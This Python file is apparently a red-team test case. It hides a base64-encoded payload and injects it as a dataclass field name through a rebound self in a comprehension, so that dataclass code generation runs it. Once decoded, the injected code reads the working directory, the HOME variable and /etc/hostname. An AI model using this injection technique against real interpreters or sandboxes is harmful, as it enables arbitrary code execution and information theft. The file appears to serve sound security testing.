# family: red team, round 51a (comprehension rebinding self to a Field inside a method, then setattr on it)
import base64
import dataclasses


@dataclasses.dataclass
class A:
    x: int = 0


PAYLOAD = base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode()


class Namer:
    def rename(self, v):
        field = dataclasses.fields(A)[0]
        [setattr(self, "name", v) for self in (field,)]


Namer().rename(PAYLOAD)


@dataclasses.dataclass(init=False, repr=False)
class B(A):
    pass


print(B() == B())
